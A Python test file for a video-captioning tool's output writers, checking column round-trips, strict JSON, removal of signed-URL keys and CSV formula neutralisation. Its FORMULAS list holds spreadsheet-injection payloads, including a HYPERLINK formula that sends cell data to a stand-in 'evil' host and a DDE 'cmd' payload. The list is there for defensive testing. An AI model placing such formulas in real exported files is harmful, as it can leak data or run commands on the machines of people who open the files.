"""The user's columns in every form of a result: whatever they are called and hold, they come back; JSON is strict; what
opens an address stays out; a spreadsheet runs nothing."""

from __future__ import annotations

import csv
import json
import math
import re
from collections.abc import Iterator
from dataclasses import replace
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from framescribe.addresses import without_access
from framescribe.plain_json import dumps
from framescribe.records import Row, Video
from framescribe.results.finished import write_finished
from framescribe.results.rows import Results, read_rows
from framescribe.sources import find_videos
from tests.runs_in_process import Run, raw_film, recipe
from tests.servers import ScriptedServer, tells
from tests.test_results import row, video

FORMS = (".jsonl", ".csv", ".parquet", ".tar")
OURS = ["id", "video_path", "caption", "status", "frames", "video", "size", "flags", "error", "provenance", "metadata"]
NAMES = [*OURS, *(f"metadata.{name}" for name in OURS), "metadata.metadata.caption", "title", "metadata.title", "Title",
         "", " ", ".", "a.b", "metadata.", "日本語", "=cmd()", "'=cmd()", "-", "caf\udce9", "caf\\udce9", "\\u005c",
         "with\nnewline", 'with "quotes"', "a,b", "a;b", "\ufeff"]  # fmt: skip


@pytest.fixture
def server() -> Iterator[ScriptedServer]:
    with ScriptedServer(tells()) as started:
        yield started


def through(folder: Path, ending: str, *rows: Row) -> list[Row]:
    output = folder / f"rows{ending}"
    write_finished(output, lambda: iter(rows))
    return list(read_rows(output))


@pytest.mark.parametrize("ending", FORMS)
def test_columns_of_every_name_come_back(tmp_path: Path, ending: str) -> None:
    metadata = {name: f"value of {name!r}" for name in NAMES}
    (back,) = through(tmp_path, ending, row("a.mp4", metadata=metadata))
    assert back == row("a.mp4", metadata=metadata)


any_name = (
    st.sampled_from(NAMES) | st.text(st.characters(), max_size=12) | st.text("metadata.tile\\ud89'= ", max_size=9)
)
any_text = st.text(st.characters(), max_size=20) | st.text("'=+-@\t\r\n ,;\"\\udce9u005c1.", max_size=8)


@settings(max_examples=150, deadline=None)
@given(st.dictionaries(any_name, any_text, max_size=6), any_text, st.sampled_from(FORMS))
def test_any_columns_and_captions_come_back(
    tmp_path_factory: pytest.TempPathFactory, metadata: dict[str, str], caption: str, ending: str
) -> None:
    folder = tmp_path_factory.mktemp("columns")
    caption = caption or "-"  # a table can only express nothing as an empty text
    written = row("a.mp4", caption, metadata=metadata)
    (back,) = through(folder, ending, written)
    assert (back.caption, dict(back.metadata)) == (caption, metadata)


@pytest.mark.parametrize("ending", FORMS)
def test_a_column_beside_one_of_ours_survives_two_runs(server: ScriptedServer, tmp_path: Path, ending: str) -> None:
    """`frames`, then `summarize`, as users do it: the columns of the list are all there at the end."""
    raw_film(tmp_path / "a.avi", 20)
    given = {"path": "a.avi", "id": "u1", "caption": "old", "metadata.caption": "older", "metadata": {"k": 1},
             "frames": 7, "status": "ok", "size": "big", "title": "t", "metadata.title": "mt"}  # fmt: skip
    (tmp_path / "list.jsonl").write_text(json.dumps(given))
    videos = find_videos([str(tmp_path / "list.jsonl")], say=lambda line: None)
    Run(server, videos, tmp_path / f"out{ending}")
    (back,) = read_rows(tmp_path / f"out{ending}")
    as_text = {name: value if isinstance(value, str) else json.dumps(value) for name, value in given.items()}
    assert dict(back.metadata) == (as_text if ending == ".csv" else given)
    again = Results(tmp_path / f"again{ending}")
    again.begin({})
    again.append(back)
    again.finish([Video(id=back.id, path=back.video_path, metadata=back.metadata)])
    assert next(read_rows(tmp_path / f"again{ending}")).metadata == back.metadata


def table(path: Path) -> list[list[str]]:
    """A csv as Python's own reader sees it."""
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


# --- strict JSON ----------------------------------------------------------------------------------


def strictly(text: str) -> Any:
    def refuse(word: str) -> None:
        raise AssertionError(f"{word} is not JSON")

    text.encode()  # and it is Unicode
    return json.loads(text, parse_constant=refuse)


ODD = {"score": math.nan, "deep": {"a": [1, math.inf, {"b": -math.inf}]}, "fine": 1.5, "huge": 10**30}
PLAIN = {"score": None, "deep": {"a": [1, None, {"b": None}]}, "fine": 1.5, "huge": 10**30}


def test_json_is_strict_wherever_a_row_goes(server: ScriptedServer, tmp_path: Path) -> None:
    raw_film(tmp_path / "a.avi", 20)
    (tmp_path / "list.jsonl").write_text(json.dumps({"path": "a.avi", **ODD}))
    assert "NaN" in (tmp_path / "list.jsonl").read_text()
    videos = find_videos([str(tmp_path / "list.jsonl")], say=lambda line: None)
    for ending in FORMS:
        Run(server, videos, tmp_path / f"out{ending}")
    lines = [line for part in tmp_path.glob("out*.parts/*.jsonl") for line in part.read_text().splitlines()]
    assert len(lines) >= len(FORMS)
    for line in (*lines, (tmp_path / "out.jsonl").read_text()):
        assert {name: value for name, value in strictly(line)["metadata"].items() if name != "path"} == PLAIN
    (back,) = read_rows(tmp_path / "out.tar")
    assert {name: back.metadata[name] for name in PLAIN} == PLAIN
    header, values = table(tmp_path / "out.csv")
    cells = dict(zip(header, values, strict=True))
    assert (cells["score"], strictly(cells["deep"])) == ("NaN", PLAIN["deep"])
    score = pq.read_table(tmp_path / "out.parquet").column("score").to_pylist()[0]
    assert math.isnan(score)  # Parquet has it, and keeps it


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(st.characters()) | st.binary() | st.dates(),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.tuples(inner)
        | st.dictionaries(
            st.text(st.characters(), max_size=3) | st.integers() | st.floats() | st.binary(), inner, max_size=3
        )
    ),
    max_leaves=8,
)


@settings(max_examples=100, deadline=None)
@given(json_values)
def test_any_value_becomes_strict_json(value: object) -> None:
    strictly(dumps(value))
    strictly(row("a.mp4", metadata={"x": value}).as_line())


plain_values = st.none() | st.booleans() | st.integers() | st.text() | st.floats(1e-4, 1e15)


@settings(max_examples=300, deadline=None)
@given(st.dictionaries(st.text() | st.integers(), plain_values | st.lists(plain_values, max_size=2), max_size=5))
def test_a_record_is_written_as_python_itself_writes_it(record: dict[Any, Any]) -> None:
    assert dumps(record) == json.dumps(record, ensure_ascii=False, allow_nan=False)


# --- spreadsheets ---------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1",
            " =1", "＝1+1", "'=1", "''=1", "- a dog", "=", "-"]  # fmt: skip
HARMLESS = ["-5", "+5", "-0.3e-7", "A dog", "'tis", "2-1", "a=b", "", "'"]


def test_a_spreadsheet_runs_nothing_of_a_csv(tmp_path: Path) -> None:
    values = FORMULAS + HARMLESS
    metadata = {f"c{number}": value for number, value in enumerate(values)} | {"=evil()": "x", "number": -5}
    output = tmp_path / "out.csv"
    write_finished(output, lambda: iter([row("=1.mp4", "=A1", metadata=metadata)]))
    header, cells = table(output)
    assert not [
        cell for cell in (*header, *cells) if re.match(r"\s*[=+@＝]|\s*-(?![\d.]+(e-?\d+)?$)", cell) and cell != "+5"
    ]
    kept = dict(zip(header, cells, strict=True))
    assert [kept[f"c{values.index(value)}"] for value in HARMLESS] == HARMLESS
    (back,) = read_rows(output)
    assert (back.id, back.caption) == ("=1.mp4", "=A1")
    assert dict(back.metadata) == metadata | {"number": "-5"}


# --- what opens an address ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("https://h/a.mp4?X-Amz-Date=1&X-Amz-Signature=KEY&X-Amz-Credential=KEY", "https://h/a.mp4"),
        ("https://h/a.mp4?part=2&X-Goog-Signature=KEY&x-goog-date=1#t=3", "https://h/a.mp4?part=2#t=3"),
        ("https://acc.blob.core.windows.net/c/a.mp4?sv=1&sp=r&sig=KEY", "https://acc.blob.core.windows.net/c/a.mp4"),
        ("https://me:KEY@h/a.mp4", "https://h/a.mp4"),
        ("https://KEY@github.com/x", "https://github.com/x"),
        ("sftp://me:KEY@h/a.mp4", "sftp://h/a.mp4"),
        ("https://h/a?token=KEY&v=1", "https://h/a?v=1"),
        ("https://h/a?v=1&amp;access_token=KEY", "https://h/a?v=1"),
        ("https://h/cb#access_token=KEY&state=1", "https://h/cb#state=1"),
        ("https://cdn.discordapp.com/a.mp4?ex=1&is=2&hm=KEY", "https://cdn.discordapp.com/a.mp4"),
        ("http://me:KEY@[::1/x.mp4?token=KEY", "http://[::1/x.mp4"),
        ("see https://me:KEY@h/a, or (https://h/b?sig=KEY).", "see https://h/a, or (https://h/b)."),
        ('["https://h/a?key=KEY", "https://h/b?v=2"]', '["https://h/a", "https://h/b?v=2"]'),
        ("https://www.youtube.com/watch?v=abc&t=3s", "https://www.youtube.com/watch?v=abc&t=3s"),
        ("abfs://container@account.dfs.core.windows.net/a", "abfs://container@account.dfs.core.windows.net/a"),
        ("https://h/a?", "https://h/a?"),
        ("mail me@h.org; a://b", "mail me@h.org; a://b"),
    ],
)
def test_an_address_is_kept_without_what_opens_it(text: str, kept: str) -> None:
    assert without_access(text) == kept
    assert without_access(kept) == kept


@settings(max_examples=100, deadline=None)
@given(st.text("ab:/?&#=@.;%[] ", max_size=30))
def test_texts_without_addresses_or_keys_do_not_change(text: str) -> None:
    quiet = re.sub(r"[@:]", "", text)
    for value in (quiet, f"https://host/{quiet}"):
        assert without_access(value) == value


@pytest.mark.parametrize("ending", FORMS)
def test_keys_in_the_users_columns_reach_no_row_but_the_prompt(
    server: ScriptedServer, tmp_path: Path, ending: str
) -> None:
    raw_film(tmp_path / "a.avi", 20)
    output = tmp_path / "out" / f"captions{ending}"
    output.parent.mkdir()

    def listed(key: str) -> list[Video]:
        signed = f"https://h/thumb.jpg?v=1&X-Amz-Signature={key}"
        record = {"path": "a.avi", "thumb": signed, "deep": {"all": [signed, {"user": f"ftp://me:{key}@h/x"}]}}
        (tmp_path / "list.jsonl").write_text(json.dumps(record))
        return find_videos([str(tmp_path / "list.jsonl")], say=lambda line: None)

    made = recipe(server, frame="What is here? {thumb}")
    Run(server, listed("FIRSTKEY"), output, made)
    assert "FIRSTKEY" in str(server.requests)
    (back,) = read_rows(output)
    thumb = "https://h/thumb.jpg?v=1"
    deep = {"all": [thumb, {"user": "ftp://h/x"}]}
    found = dict(back.metadata)
    if isinstance(found["deep"], str):  # in tables a value of no one type is JSON
        found["deep"] = json.loads(found["deep"])
    assert found == {"path": "a.avi", "thumb": thumb, "deep": deep}
    for file in output.parent.rglob("*"):
        assert not file.is_file() or b"FIRSTKEY" not in file.read_bytes()
    again = Run(server, listed("SECONDKEY"), output, made)  # a re-signed address is the same value
    assert again.requests == 0
    for file in output.parent.rglob("*"):
        assert not file.is_file() or b"SECONDKEY" not in file.read_bytes()


def test_an_id_holds_no_key(tmp_path: Path) -> None:
    (tmp_path / "list.jsonl").write_text(json.dumps({"path": "https://h/a.mp4", "u": "https://me:KEY@h/a?sig=KEY&v=1"}))
    (found,) = find_videos([str(tmp_path / "list.jsonl")], id_column="u", say=lambda line: None)
    assert found.id == "https://h/a?v=1"


def test_a_row_keeps_its_columns_if_it_is_taken_over(tmp_path: Path) -> None:
    output = tmp_path / "captions.jsonl"
    results = Results(output)
    results.begin({})
    results.append(row("a.mp4"))
    signed = {"u": "https://h/a?token=KEY&v=1"}
    results.finish([video("a.mp4", **signed)])
    assert next(read_rows(output)).metadata == {"u": "https://h/a?v=1"}
    assert replace(video("a.mp4", **signed)).kept == {"u": "https://h/a?v=1"}


@pytest.mark.parametrize(
    ("record", "written"),
    [
        ({"name": "caf\udce9"}, r'{"name": "caf\udce9"}'),
        ({"a": b"x", "b": 1.5}, '{"a": "x", "b": 1.5}'),
        ({b"k": 1}, '{"k": 1}'),
        ({None: 1, True: 2, 3: 4}, '{"null": 1, "true": 2, "3": 4}'),
        ({"day": date(2024, 1, 2), "span": timedelta(1)}, '{"day": "2024-01-02", "span": "1 day, 0:00:00"}'),
        ({"score": math.nan, "most": math.inf}, '{"score": null, "most": null}'),
        ({"tags": {2, 1}, "size": 10**30}, f'{{"tags": [1, 2], "size": {10**30}}}'),
    ],
)
def test_what_json_cannot_hold_takes_the_closest_form(record: dict[Any, Any], written: str) -> None:
    assert dumps(record) == written
